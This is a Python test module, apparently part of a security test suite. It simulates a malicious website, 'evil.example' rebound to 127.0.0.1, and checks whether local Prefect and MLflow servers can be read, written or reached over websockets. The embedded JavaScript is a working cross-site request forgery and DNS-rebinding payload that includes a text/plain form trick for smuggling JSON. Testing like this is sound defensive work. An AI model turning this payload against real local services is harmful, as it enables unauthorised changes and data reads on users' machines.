"""What a page of a website tries on the servers of its reader's machine: read, write, websockets, and its own name made
to point there."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler
from typing import Any

from tests.browser import Browser
from tests.web_server import answered_by

EVIL = "evil.example"
RULES = f"--host-resolver-rules=MAP {EVIL} 127.0.0.1"
NAME = "made-by-a-website"
WRITES = {
    "/api/flows/": {"name": NAME},
    "/api/work_pools/": {"name": NAME, "type": "process"},
    "/api/2.0/mlflow/experiments/create": {"name": NAME},
    "/ajax-api/2.0/mlflow/experiments/create": {"name": NAME},
}
"""What would leave a trace, by path: the page tries all on every port."""
READS = (
    "/",
    "/api/admin/settings",
    "/api/flows/filter",
    "/api/2.0/mlflow/experiments/search?max_results=5",
    "/limbeck/login",
    "/limbeck/proof?x",
    "/ui-settings",
)
PAGES = ("/api/health", "/", "/metrics")
"""Where servers may show a page, from which a rebound name is tried; PostgreSQL and Redis speak no HTTP."""
SOCKETS = ("/api/events/in", "/api/events/out", "/api/logs/out", "/api/task_runs/subscriptions/scheduled")
# Each way returns what it could read or open; a way that writes blindly is judged by what is there afterwards.
TRY = """
const [base, writes, reads, sockets] = given, won = [];
// A bucket's listing is a page of XML: it has no body, and its own elements are no forms.
const root = document.body || document.documentElement;
const made = name => document.createElementNS("http://www.w3.org/1999/xhtml", name);
const fetch = (url, how) => window.fetch(url, {...how, signal: AbortSignal.timeout(3000)});
const read = async (what, promise) => {
  try { const a = await promise; if (a.type !== "opaque" && a.ok) won.push(what + ": " + (await a.text()).slice(0, 60)); }
  catch (e) {}
};
for (const path of reads) await read("read " + path, fetch(base + path));
for (const path of reads) await read("read with credentials " + path, fetch(base + path, {credentials: "include"}));
for (const path in writes) {
  const body = JSON.stringify(writes[path]);
  const json = {"Content-Type": "application/json"};
  await read("preflighted " + path, fetch(base + path, {method: "POST", body, headers: json}));
  await read("simple " + path, fetch(base + path, {method: "POST", body, headers: {"Content-Type": "text/plain"}}));
  await read("blind " + path, fetch(base + path, {method: "POST", body, mode: "no-cors", credentials: "include"}));
  const untyped = {method: "POST", body: new Blob([body]), mode: "no-cors", credentials: "include"};
  await read("untyped " + path, fetch(base + path, untyped));
  const frame = root.appendChild(Object.assign(made("iframe"), {name: "f" + Math.random()}));
  const how = {action: base + path, method: "POST", enctype: "text/plain", target: frame.name};
  const form = root.appendChild(Object.assign(made("form"), how));
  form.appendChild(Object.assign(made("input"), {name: body.slice(0, -1) + ', "x": "', value: '"}'}));
  form.submit();
  await new Promise(done => { frame.onload = done; setTimeout(done, 150); });
}
for (const path of sockets) for (const words of [["prefect"], []]) await new Promise(done => {
  const socket = new WebSocket(base.replace("http", "ws") + path, words);
  socket.onopen = () => { won.push("websocket " + path); socket.send('{"type": "auth"}'); setTimeout(done, 200); };
  socket.onerror = socket.onclose = () => done(); setTimeout(done, 1000);
});
return won;
"""  # noqa: E501


@contextmanager
def website() -> Iterator[tuple[str, list[str]]]:
    """Run a website that has an empty page and, as a careless server would, lets every other page read and write it;
    yield its address and its posts."""
    posts: list[str] = []

    class Page(BaseHTTPRequestHandler):
        def answer(self) -> None:
            posts.extend([self.path] if self.command == "POST" else [])
            self.rfile.read(int(self.headers.get("Content-Length", 0)))
            self.send_response(200)
            for name in ("Origin", "Headers", "Methods"):
                self.send_header(f"Access-Control-Allow-{name}", "*")
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<!doctype html><body>a page</body>")

        do_GET = do_POST = do_OPTIONS = answer

        def log_message(self, *given: Any) -> None:
            """Say nothing."""

    with answered_by(Page) as port:
        yield f"http://{EVIL}:{port}", posts


def attack(window: Browser, site: str, ports: Mapping[str, int]) -> list[str]:
    """Try everything from a website's page on every port; return what it could read or open."""
    won = []
    for name, port in ports.items():
        window.open(site)
        for base in (f"http://127.0.0.1:{port}", f"http://localhost:{port}", f"http://{EVIL}:{port}"):
            won += [f"{name}: {one}" for one in window.run(TRY, base, WRITES, READS, SOCKETS)]
        # Rebound: the page's own name leads to the server, and to the browser they are one origin.
        if any(window.opens(f"http://{EVIL}:{port}{path}") for path in PAGES):
            rebound = window.run(TRY, f"http://{EVIL}:{port}", WRITES, READS, SOCKETS)
            won += [f"{name}, rebound: {one}" for one in rebound]
    return won
